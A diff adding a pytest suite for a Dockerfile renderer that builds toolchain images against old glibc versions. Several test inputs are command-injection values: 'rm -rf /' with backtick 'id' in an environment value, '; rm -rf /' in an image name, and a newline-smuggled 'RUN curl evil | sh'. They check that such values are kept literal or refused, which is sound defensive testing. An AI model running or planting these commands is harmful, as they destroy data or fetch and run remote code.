@@ -1,0 +1,202 @@
+"""render: every shipped recipe gives a Dockerfile that parses, the same bytes every time.
+
+Golden file: tests/golden/fedora20-llvm5.Dockerfile. After a deliberate change to that
+recipe or its template, regenerate it with UPDATE_GOLDEN=1 and review the diff.
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import re
+import shlex
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from dockerfile_parse import DockerfileParser
+
+from orchestrator.errors import RecipeError
+from orchestrator.glibc import GlibcVersion
+from orchestrator.recipe import RECIPES_DIR, available_recipes, check_glibc, load_recipe
+from orchestrator.render import render_dockerfile
+
+from .conftest import assert_clean_failure, run_tool
+
+GOLDEN = Path(__file__).parent / "golden"
+SHIPPED = available_recipes()
+
+
+def parse(text: str) -> DockerfileParser:
+    return DockerfileParser(fileobj=io.BytesIO(text.encode()))
+
+
+def test_the_four_recipes_are_shipped():
+    assert {"fedora20-llvm5", "centos7", "debian-bullseye", "centos7-zig"} <= set(SHIPPED)
+
+
+@pytest.mark.parametrize("name", SHIPPED)
+def test_every_shipped_recipe_renders_and_parses(name):
+    recipe = load_recipe(name)
+    text = render_dockerfile(recipe)
+    parsed = parse(text)
+
+    instructions = [item["instruction"] for item in parsed.structure]
+    assert instructions[instructions.index("FROM")] == "FROM"
+    assert parsed.baseimage == recipe.base_image
+    assert set(instructions) <= {"FROM", "RUN", "COPY", "ENV", "LABEL", "COMMENT"}, instructions
+    # ENV values survive the quoting exactly, whatever they contain.
+    for key, value in recipe.env.items():
+        assert parsed.envs[key] == value
+    assert parsed.labels["org.glibc-build.recipe"] == recipe.name
+    # The image proves its own glibc: the build fails if the base is not what the recipe says.
+    assert f"= 'glibc {recipe.glibc}'" in text
+    # Each source is copied in from the build context, and re-checked when its sha256 is pinned.
+    for source in recipe.sources:
+        assert f"COPY rsrc/{source.filename} " in text
+        if source.sha256:
+            assert f"{source.sha256}  {source.filename}" in text
+    # Same recipe, same bytes: twice, and from a freshly loaded recipe.
+    assert render_dockerfile(recipe) == text
+    assert render_dockerfile(load_recipe(name)) == text
+    assert text.endswith("\n") and not text.endswith("\n\n")
+
+
+def test_fedora20_llvm5_matches_the_golden_file():
+    text = render_dockerfile(load_recipe("fedora20-llvm5"))
+    golden = GOLDEN / "fedora20-llvm5.Dockerfile"
+    if os.environ.get("UPDATE_GOLDEN") == "1":
+        golden.write_text(text)
+    assert text == golden.read_text()
+    # ...and the user-facing command prints exactly those bytes.
+    proc = run_tool("render", "--recipe", "fedora20-llvm5", "--glibc", "2.28")
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout == golden.read_text()
+
+
+def test_fedora20_llvm5_is_the_classic_builder():
+    recipe = load_recipe("fedora20-llvm5")
+    assert (recipe.glibc, recipe.base_image) == (GlibcVersion(2, 18), "fedora:20")
+    assert {s.name for s in recipe.sources} == {"make", "cmake", "llvm", "clang", "lld", "rust"}
+    assert recipe.source("cmake").checksums.endswith("cmake-3.29.3-SHA-256.txt")
+    assert all(s.signed for s in recipe.sources)  # every one checked by a pinned key too
+    text = render_dockerfile(recipe)
+    assert "-DCMAKE_BUILD_TYPE=MinSizeRel" in text and "-DLLVM_TARGETS_TO_BUILD=X86" in text
+    assert "-fuse-ld=lld" in recipe.env["RUSTFLAGS"] and "--gc-sections" in recipe.env["RUSTFLAGS"]
+
+
+def test_debian_bullseye_needs_no_network():
+    recipe = load_recipe("debian-bullseye")
+    text = render_dockerfile(recipe)
+    assert recipe.sources == [] and "COPY" not in text
+    assert not re.search(r"apt-get|curl|wget", text.split("FROM", 1)[1])
+    assert set(recipe.packages) <= set(recipe.debootstrap["include"])
+    assert recipe.toolchain["rust"] == "host" and recipe.toolchain["rust_mount"]
+
+
+def test_zig_wrappers_are_quoted_for_the_shell():
+    """Run the printf lines of the rendered RUN under sh: the wrapper scripts come out whole."""
+    text = render_dockerfile(load_recipe("centos7-zig"))
+    lines = [line.strip() for line in text.splitlines() if line.strip().startswith("printf")]
+    assert len(lines) == 2
+    for line, tool in zip(lines, ("cc", "c++")):
+        command = line.rstrip("\\").strip()
+        script = subprocess.run(["sh", "-c", command], capture_output=True, text=True,
+                                check=True).stdout
+        assert script == ("#!/bin/sh\nexec /usr/local/bin/zig " + tool + " -target "
+                          '"x86_64-linux-gnu.${ZIG_TARGET_GLIBC:-2.17}" "$@"\n')
+
+
+def test_hostile_values_stay_literal(tmp_path):
+    """Values are data: quotes, `;`, `$` and spaces reach the image exactly as written."""
+    source = (RECIPES_DIR / "centos7.toml").read_text()
+    nasty = "it's; rm -rf / # $HOME \"x\" `id`"
+    recipe_path = tmp_path / "nasty.toml"
+    recipe_path.write_text(source.replace("[env]", "[env]\nNASTY = '''" + nasty + "'''"))
+    recipe = load_recipe(recipe_path)
+    text = render_dockerfile(recipe)
+    assert parse(text).envs["NASTY"] == nasty
+    env_line = next(line for line in text.splitlines() if line.startswith("ENV NASTY="))
+    assert shlex.split(env_line[len("ENV NASTY="):]) == [nasty]
+
+
+def test_target_glibc_gate():
+    bullseye = load_recipe("debian-bullseye")
+    assert check_glibc(bullseye, None) == GlibcVersion(2, 31)
+    assert check_glibc(bullseye, "2.35") == GlibcVersion(2, 35)
+    with pytest.raises(RecipeError, match="newer than --glibc 2.17"):
+        check_glibc(bullseye, "2.17")
+    with pytest.raises(RecipeError, match="newer than --glibc 2.28"):
+        render_dockerfile(bullseye, GlibcVersion(2, 28))
+    # Targets at or above the base all get the same Dockerfile: the image does not depend
+    # on the target, so one image serves them all.
+    assert render_dockerfile(bullseye, "2.31") == render_dockerfile(bullseye, "2.39")
+
+    proc = run_tool("render", "--recipe", "debian-bullseye", "--glibc", "2.17")
+    assert_clean_failure(proc, 2, "debian-bullseye", "2.31", "newer than --glibc 2.17",
+                         "centos7")
+    assert proc.stdout == ""
+
+
+def test_digest_covers_recipe_and_template(tmp_path):
+    recipe = load_recipe("centos7")
+    assert recipe.digest() == load_recipe("centos7").digest()
+    assert len(recipe.digest()) == 64
+    changed = tmp_path / "centos7.toml"
+    original = (RECIPES_DIR / "centos7.toml").read_text()
+    changed.write_text(original.replace('"which"', '"which", "zip"'))
+    assert load_recipe(changed).digest() != recipe.digest()
+    other_template = tmp_path / "other.toml"
+    other_template.write_text((RECIPES_DIR / "centos7.toml").read_text()
+                              .replace("centos7.Dockerfile.j2", "zig.Dockerfile.j2"))
+    assert load_recipe(other_template).digest() != recipe.digest()
+
+
+def test_template_needing_what_the_recipe_lacks_is_a_recipe_error(tmp_path):
+    recipe_path = tmp_path / "no-sources.toml"
+    text = (RECIPES_DIR / "fedora20-llvm5.toml").read_text()
+    recipe_path.write_text(text[:text.index("[[sources]]")])  # the template wants src.make...
+    with pytest.raises(RecipeError, match="needs something the recipe does not give"):
+        render_dockerfile(load_recipe(recipe_path))
+    proc = run_tool("render", "--recipe", recipe_path)
+    assert_clean_failure(proc, 2, "fedora20-llvm5", "make")
+
+
+@pytest.mark.parametrize("edit, needle", [
+    (lambda t: t.replace('glibc = "2.17"', 'glibc = "two"'), "not a glibc version"),
+    (lambda t: t.replace('template = "centos7.Dockerfile.j2"', 'template = "nope.j2"'),
+     "template nope.j2 is not in"),
+    (lambda t: t.replace('image = "centos:7"', 'image = "centos:7; rm -rf /"'),
+     "not an image reference"),
+    (lambda t: t.replace("[toolchain]", '[toolchain]\npackages = ["x"]'),
+     "goes at the top level"),
+    (lambda t: t + "\ncolour = \"blue\"\n", "unknown key colour"),
+    (lambda t: t.replace('name = "centos7"', 'name = "CentOS 7"'), "lower-case"),
+    (lambda t: t.replace('CC = "gcc"', 'CC = "gcc\\nRUN curl evil | sh"'), "one line"),
+    (lambda t: t.replace("[base]", "[base"), "not valid TOML"),
+])
+def test_bad_recipes_are_refused_with_the_file_named(tmp_path, edit, needle):
+    path = tmp_path / "bad.toml"
+    path.write_text(edit((RECIPES_DIR / "centos7.toml").read_text()))
+    with pytest.raises(RecipeError, match=needle):
+        load_recipe(path)
+    proc = run_tool("render", "--recipe", path)
+    assert_clean_failure(proc, 2, str(path), needle)
+
+
+def test_unknown_recipe_name_lists_the_known_ones():
+    proc = run_tool("render", "--recipe", "no-such-recipe")
+    assert_clean_failure(proc, 2, "no-such-recipe", "debian-bullseye", "fedora20-llvm5")
+
+
+def test_key_paths_resolve_next_to_the_recipe_then_in_rsrc(tmp_path):
+    """`keys = ["keys/rust-release.asc"]` works from recipes/ (found in rsrc/) and from a
+    recipe file elsewhere; a key file that exists nowhere is a recipe error."""
+    assert Path(load_recipe("centos7").source("rust").keys[0]).is_file()
+    copy = tmp_path / "centos7.toml"
+    shutil.copy(RECIPES_DIR / "centos7.toml", copy)
+    assert load_recipe(copy).source("rust").keys == load_recipe("centos7").source("rust").keys
+    copy.write_text(copy.read_text().replace("keys/rust-release.asc", "keys/missing.asc"))
+    with pytest.raises(RecipeError, match="key file 'keys/missing.asc' not found"):
+        load_recipe(copy)
